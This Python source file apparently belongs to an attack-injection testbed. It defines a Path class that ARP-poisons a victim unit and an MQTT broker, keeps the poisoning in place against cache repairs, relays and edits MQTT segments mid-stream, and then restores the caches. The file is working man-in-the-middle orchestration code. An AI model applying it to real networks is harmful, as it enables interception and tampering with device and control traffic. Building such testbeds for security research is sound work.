"""The path between one unit and the broker: getting on it, relaying, leaving it."""

from collections.abc import Callable

from coldaisle_contracts.addressing import INJECTOR, Host
from coldaisle_contracts.plan import Episode
from coldaisle_contracts.units import Unit
from coldaisle_injector.arp_caches import LOCK_NS, Caches
from coldaisle_injector.editing import Editor
from coldaisle_injector.edits import Editing
from coldaisle_injector.notes import Notes
from coldaisle_injector.relaying import Relay
from coldaisle_injector.segments import Arp, Segment
from coldaisle_injector.spoofing import Spoofer
from coldaisle_injector.wire import Wire

PATIENCE_NS = 15_000_000_000
"""Longest wall time to wait for the answer to a claim, a copy or a FIN, in ns; after it the run ends."""


class Path:
    """The path between a unit and the broker while the attacker is on it.

    Args:
        unit: the victim.
        wire: the attacker's socket.
        notes: the attacker's journal; it has the id of the episode on the path, also after its end while connections need
            translation.
        slot_of: returns the plan's slot at a virtual time in ns.
        elsewhere: hosts to which a frame can be sent instead of the broker, so that the broker's link does not carry it.

    Attributes:
        spoofer: sends the frames that are due between readings.
    """

    def __init__(
        self,
        unit: Unit,
        wire: Wire,
        notes: Notes,
        slot_of: Callable[[int], int],
        elsewhere: tuple[Host, ...] = (INJECTOR,),
    ) -> None:
        self.unit, self.rhythm, self.notes, self.elsewhere = unit.host, unit.rhythm, notes, elsewhere
        self._times = notes.times
        self._caches = Caches(unit.host, wire, notes)
        self.spoofer = Spoofer(unit, wire, notes)
        self._editor = Editor(unit, notes, self.spoofer, slot_of)
        self._relay = Relay(unit.host, wire, notes, self.spoofer, self._editor)
        self._connections = self.spoofer.connections
        self._leaving = self._confirmed = self._up = self._down = False
        self._since_ns = 0

    # -- phases -------------------------------------------------------------------------------------------------

    def approach(self, episode: Episode, attack: Editing) -> None:
        """Claim the unit's place at the broker and the broker's at the unit."""
        self.notes.start(episode)
        self._editor.attack, self._editor.acting = attack, False
        self._leaving = self._confirmed = self._up = self._down = False
        if not self._caches.poisoned:
            self._connections.clear()  # kept until now for late frames
        self._since_ns = self._times.wall_ns()
        self.notes.phase("approach")
        self._caches.poison()

    def begin(self) -> None:
        """Begin to act.

        Raises:
            OffPathError: if traffic has not passed in both directions since the approach.
        """
        if not self._confirmed:
            raise self.spoofer.off_path("saw no traffic pass")
        self._editor.acting = True
        self.notes.phase("begin")

    def leave(self) -> None:
        """Stop acting, and restore the caches as soon as no connection needs the attacker's translation."""
        self._editor.acting, self._leaving = False, True
        self.notes.phase("end")
        self._restore_if_free()

    def _restore_if_free(self) -> None:
        """Restore both caches unless a connection would break."""
        if (
            self.poisoned
            and self._leaving
            and not any(conn.translated for conn in self._connections.values())
        ):
            self._leaving = False
            self._caches.restore()
            self.notes.phase("off_path")

    @property
    def poisoned(self) -> bool:
        """Whether the caches of unit and broker are poisoned."""
        return self._caches.poisoned

    @property
    def settled(self) -> bool:
        """Whether everything that was sent has been answered and no connection through the attacker is half closed."""
        closing = self.poisoned and any(conn.closing for conn in self._connections.values())
        return self._answered and not closing

    @property
    def _answered(self) -> bool:
        return not self._caches.unanswered and not any(conn.waits for conn in self._connections.values())

    def insist(self) -> bool:
        """Repeat claims that were not answered, and claim again where a cache was repaired; return whether the path is settled.

        A victim's own ARP broadcast repairs its peer's cache. If the next claim overtakes that broadcast, the repair sticks; data that
        stays unacknowledged reveals this.

        Raises:
            OffPathError: if there is still no answer after :data:`PATIENCE_NS`.
        """
        if self.poisoned and self._unacknowledged:
            self._caches.renew()
        if self.settled:
            self._since_ns = self._times.wall_ns()
            return True
        if self._times.wall_ns() - self._since_ns > PATIENCE_NS:
            raise self.spoofer.off_path("got no answer")
        self._caches.insist()
        return False

    @property
    def _unacknowledged(self) -> bool:
        """Whether data that was passed on lacks its acknowledgement, though not for longer than :data:`PATIENCE_NS`."""
        wall_ns = self._times.wall_ns()
        silences = (conn.unacknowledged_ns(wall_ns) for conn in self._connections.values())
        return any(LOCK_NS < silence < PATIENCE_NS for silence in silences)

    # -- frames that arrive -------------------------------------------------------------------------------------

    def on_arp(self, arp: Arp, frame: bytes) -> None:
        """Handle an answer to a claim, or answer a question about the other side."""
        self._caches.on_arp(arp, frame)

    def on_other(self, frame: bytes, *, upward: bool) -> None:
        """Pass on a frame that is not MQTT."""
        self._relay.on_other(frame, upward=upward)

    def on_segment(self, segment: Segment) -> None:
        """Pass on a segment with the edits of the attack."""
        editing = not (self._leaving and self._answered)
        if self._relay.on_segment(segment, editing=editing) and editing:
            self._confirm(upward=segment.source == self.unit.ip)
        self._restore_if_free()

    def _confirm(self, *, upward: bool) -> None:
        """Journal that the attacker is on the path once data of both sides has passed."""
        self._up, self._down = self._up or upward, self._down or not upward
        if self._up and self._down and not self._confirmed and self.poisoned and not self._leaving:
            self._confirmed = True
            self.notes.phase("on_path")
